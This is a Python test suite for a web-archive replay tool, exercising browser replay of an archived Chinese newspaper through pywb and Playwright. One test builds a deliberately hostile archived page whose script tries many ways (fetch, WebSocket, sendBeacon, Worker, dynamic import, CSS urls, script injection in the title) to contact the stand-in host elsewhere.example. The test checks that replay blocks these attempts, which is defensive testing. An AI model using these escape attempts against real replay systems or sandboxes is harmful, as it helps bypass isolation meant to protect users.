"""What was archived is seen again in a browser, entered by its issues, and nothing else is asked for."""

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from html import escape
from pathlib import Path
from urllib.error import HTTPError
from urllib.parse import urlsplit
from urllib.request import ProxyHandler, build_opener

import pytest
from playwright.sync_api import Browser, Frame, Page, Request, expect

from archive.__main__ import main
from archive.warc.record import digest
from tests.archive.records import HTTP, INFO, resource, write
from tests.archive.replay import pywb_programs, served
from tests.crawler.crawling import crawl
from tests.site import SampleServer
from tests.site.paper import EditionPage

HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"


@dataclass(frozen=True)
class Sample:
    """The first issue of the daily, archived: GB18030 that says it is gb2312. `server`, stopped, has the truth."""

    folder: Path
    server: SampleServer

    @property
    def editions(self) -> tuple[EditionPage, ...]:
        return self.server.site.papers[0].issues[0].editions


@pytest.fixture(scope="module")
def sample(tmp_path_factory: pytest.TempPathFactory) -> Sample:
    folder = tmp_path_factory.mktemp("serve") / "云州 日报%20+#"
    with SampleServer() as server:
        paper = server.site.papers[0]
        day = paper.issues[0].date
        done = crawl("edition", folder, url=server.url + paper.index_path, since=day, until=day)
    assert done.exit_code == 0, done.log
    return Sample(folder, server)


@dataclass
class Visit:
    """A window, the addresses that were asked for in it, and those that the page's policy kept from being asked for."""

    page: Page
    asked: list[str] = field(default_factory=list)
    kept: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.on("request", self._note)
        self.page.on("requestfailed", self._note_failed)
        self.page.on("websocket", lambda opened: self.asked.append(opened.url))

    def _note(self, request: Request) -> None:
        self.asked.append(request.url)

    def _note_failed(self, request: Request) -> None:
        if request.failure == "csp":  # a browser tells of it as of any other, but sends nothing
            self.asked.remove(request.url)
            self.kept.append(request.url)

    @property
    def hosts(self) -> set[str]:
        return {urlsplit(url).netloc for url in self.asked if not url.startswith(("data:", "blob:"))}

    def replayed(self, url: str) -> Frame:
        """The frame in which an archived page is shown, once it is."""
        self.page.wait_for_url(re.compile(rf"/archive/\d+/{re.escape(url)}$"))
        element = self.page.wait_for_selector("#replay_iframe")
        assert element is not None
        frame = element.content_frame()
        assert frame is not None
        frame.wait_for_url(re.compile(rf"mp_/{re.escape(url)}$"))
        frame.wait_for_load_state("load")
        return frame


@pytest.fixture
def visit(chromium: Browser) -> Iterator[Visit]:
    context = chromium.new_context()
    context.set_default_timeout(30_000)
    yield Visit(context.new_page())
    context.close()


@pytest.fixture(scope="module")
def replayed(sample: Sample, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with served(sample.folder, programs=pywb_programs(), temporary=tmp_path_factory.mktemp("tmp")) as running:
        yield running.url


def image_width(frame: Page | Frame, selector: str) -> int:
    """Of a picture, in its own pixels, once it is there."""
    frame.wait_for_function("s => document.querySelector(s)?.complete", arg=selector)
    width: int = frame.evaluate("s => document.querySelector(s).naturalWidth", selector)
    return width


def open_edition(visit: Visit, root: str, edition: EditionPage) -> None:
    """From the first page to an edition page, by clicks."""
    visit.page.goto(root)
    visit.page.get_by_role("link", name=f"{edition.page} {edition.page_name}", exact=True).click()
    expect(visit.page.get_by_role("heading")).to_have_text(f"{edition.newspaper} {edition.page} {edition.page_name}")


@pytest.mark.slow
def test_first_page_lists_the_issues_and_their_edition_pages(visit: Visit, replayed: str, sample: Sample) -> None:
    visit.page.goto(replayed)
    expect(visit.page.get_by_role("heading", level=2)).to_have_text(sample.editions[0].newspaper)
    expect(visit.page.locator("ol.issues time")).to_have_text([sample.editions[0].date])
    expect(visit.page.locator("ol.issues a")).to_have_text(
        [f"{edition.page} {edition.page_name}" for edition in sample.editions]
    )
    expect(visit.page.get_by_text(re.compile(r"All articles \(\d+\)"))).to_be_visible()


@pytest.mark.slow
def test_click_on_an_area_of_the_page_image_opens_the_article(visit: Visit, replayed: str, sample: Sample) -> None:
    edition = sample.editions[1]
    open_edition(visit, replayed, edition)
    assert image_width(visit.page, ".sheet img") == 350
    areas = visit.page.locator(".sheet svg a")
    expect(areas).to_have_count(sum(listing.area is not None for listing in edition.listings))
    assert visit.page.evaluate("getComputedStyle(document.querySelector('.sheet svg')).position") == "absolute"
    listing = next(listing for listing in edition.listings if listing.headline and listing.area)
    assert listing.area is not None
    (left, top), *_ = listing.area
    image = visit.page.locator(".sheet img").bounding_box()
    assert image is not None
    visit.page.mouse.click(image["x"] + left + 8, image["y"] + top + 8)
    article = visit.replayed(sample.server.url + listing.path)
    truth = sample.server.site.articles[listing.path]
    expect(article.get_by_text(truth.body[0].text.strip()).first).to_be_visible()
    assert visit.hosts == {urlsplit(replayed).netloc}
    assert len(visit.asked) > 5


@pytest.mark.slow
def test_archived_edition_page_shows_its_image_and_styles_and_its_own_areas_work(
    visit: Visit, replayed: str, sample: Sample
) -> None:
    edition = sample.editions[2]
    open_edition(visit, replayed, edition)
    visit.page.get_by_role("link", name="the page as archived").click()
    frame = visit.replayed(sample.server.url + edition.path)
    assert image_width(frame, "img[usemap], img[useMap]") == 350
    rules = "[...document.styleSheets].filter(sheet => sheet.href).map(sheet => sheet.cssRules.length)"
    (style,) = [path for path in sample.server.site.pages if path.endswith("/yzrb/tplimg/css_epaper.css")]
    body = sample.server.site.pages[style].body
    assert isinstance(body, bytes)
    assert frame.evaluate(rules) == [body.count(b"{")]
    listing = next(listing for listing in edition.listings if listing.area)
    frame.locator(f"area[href$='{listing.path.rpartition('/')[2]}']").dispatch_event("click")
    visit.replayed(sample.server.url + listing.path)
    assert visit.hosts == {urlsplit(replayed).netloc}


@pytest.mark.slow
def test_page_that_says_gb2312_shows_characters_that_gb2312_lacks(visit: Visit, replayed: str, sample: Sample) -> None:
    issue = sample.server.site.papers[0].issues[0]
    article, text = next(
        (article, block.text.strip())
        for article in issue.articles
        for block in article.body
        if any(rare in block.text for rare in "喆镕㐂")
    )
    with pytest.raises(UnicodeEncodeError):
        text.encode("gb2312")
    visit.page.goto(replayed)
    visit.page.get_by_text("All articles").click()
    visit.page.get_by_role("link", name=article.headline, exact=True).click()
    frame = visit.replayed(sample.server.url + article.path)
    assert frame.evaluate("document.characterSet") in ("GBK", "gb18030")
    expect(frame.get_by_text(text).first).to_be_visible()
    assert "\ufffd" not in frame.inner_text("body")


@pytest.mark.slow
def test_wacz_is_entered_and_replayed_like_the_crawl_that_it_was_made_from(
    visit: Visit, sample: Sample, tmp_path: Path
) -> None:
    assert main(["wacz", str(sample.folder), "-o", str(tmp_path / "a.wacz")]) == 0
    edition = sample.editions[0]
    with served(tmp_path / "a.wacz", programs=pywb_programs(), temporary=tmp_path) as running:
        open_edition(visit, running.url, edition)
        assert image_width(visit.page, ".sheet img") == 350
        listing = next(listing for listing in edition.listings if listing.headline)
        visit.page.get_by_role("link", name=listing.headline, exact=True).last.click()
        frame = visit.replayed(sample.server.url + listing.path)
        expect(frame.get_by_text(listing.headline or "").first).to_be_visible()
        assert visit.hosts == {urlsplit(running.url).netloc}


@pytest.mark.slow
def test_hostile_page_reaches_no_other_host(visit: Visit, tmp_path: Path) -> None:
    other = "elsewhere.example"
    attempts = f"""<img src="http://{other}/a.png"><img src="//{other}/b.png">
        <link rel=stylesheet href=https://{other}/c.css><script>
        const part = "//{other}";
        const tries = [
            () => fetch("http:" + part + "/d").catch(() => 0),
            () => {{ new Image().src = "https:" + part + "/e.png"; }},
            () => new WebSocket("ws:" + part + "/f"),
            () => new EventSource("http:" + part + "/g"),
            () => navigator.sendBeacon("http:" + part + "/h", "x"),
            () => new Worker("http:" + part + "/i.js"),
            () => document.write("<img src=http:" + part + "/j.png>"),
            () => document.head.append(Object.assign(document.createElement("style"),
                {{textContent: "p {{background: url(http:" + part + "/k.png)}}"}})),
            () => document.styleSheets[0].insertRule("p {{background: url(http:" + part + "/l.png)}}"),
            () => setTimeout("import('http:" + part + "/m.js').catch(() => 0)"),
            () => new Function("u", "return im" + "port(u)")("http:" + part + "/n.js").catch(() => 0),
        ];
        for (const attempt of tries) {{ try {{ attempt(); }} catch (error) {{}} }}
        document.write("<p id=end>end</p>");
        </script>"""
    title = escape("<script>document.title = 'broken out'</script>")
    page = f"<!DOCTYPE html><title>{title}</title><style></style>{attempts}<iframe src=/inner></iframe>"
    record = resource(HEAD + b"\r\n" + page.encode(), **HTTP, WARC_Target_URI="http://paper.example/")
    inner = f"<!DOCTYPE html><style></style>{attempts}".encode()
    record += resource(HEAD + b"\r\n" + inner, **HTTP, WARC_Target_URI="http://paper.example/inner")
    path = write(tmp_path / "a.warc.gz", INFO, record)
    with served(path, programs=pywb_programs(), temporary=tmp_path) as running:
        visit.page.goto(running.url)
        visit.page.get_by_role("link", name="All pages (2)").click()
        visit.page.get_by_role("link", name="<script>document.title = 'broken out'</script>").click()
        frame = visit.replayed("http://paper.example/")
        for each in (frame, frame.child_frames[0]):
            each.wait_for_selector("#end", state="attached")
        visit.page.wait_for_load_state("networkidle")
        assert visit.hosts == {urlsplit(running.url).netloc}
        assert any(url.endswith("/a.png") for url in visit.asked)
        assert {f"http://{other}/m.js", f"http://{other}/n.js"} <= set(visit.kept)


@pytest.mark.slow
def test_revisit_shows_the_chunked_payload_of_its_original(tmp_path: Path) -> None:
    chunked = HEAD + b"Transfer-Encoding: chunked\r\n\r\n4\r\nbody\r\n0\r\n\r\n"
    other = HEAD + b"Transfer-Encoding: chunked\r\n\r\n5\r\nother\r\n0\r\n\r\n"
    first, second = "http://paper.example/1", "http://paper.example/2"
    revisit = {
        "WARC_Type": "revisit",
        "WARC_Profile": "http://netpreserve.org/warc/1.1/revisit/identical-payload-digest",
        "WARC_Payload_Digest": digest(b"body"),
        "WARC_Refers_To_Target_URI": first,
        "WARC_Refers_To_Date": "2024-02-20T08:30:01Z",
        "Content_Type": "application/http;msgtype=response",
    }
    path = write(
        tmp_path / "a.warc.gz",
        INFO,
        resource(chunked, **HTTP, WARC_Target_URI=first),
        resource(other, **HTTP, WARC_Target_URI=first, WARC_Date="2024-02-20T08:30:02Z"),
        resource(chunked.partition(b"4\r\n")[0], **revisit, WARC_Target_URI=second, WARC_Date="2024-03-01T00:00:00Z"),
    )
    with served(path, programs=pywb_programs(), temporary=tmp_path) as running:
        assert fetch(f"{running.url}archive/20240301000000id_/{second}") == b"body"
        assert fetch(f"{running.url}archive/20240220083002id_/{first}") == b"other"
        with pytest.raises(HTTPError, match="404"):
            fetch(f"{running.url}archive/20240301000000id_/http://paper.example/3")


def fetch(url: str) -> bytes:
    with build_opener(ProxyHandler({})).open(url, timeout=60) as response:
        data: bytes = response.read()
    return data
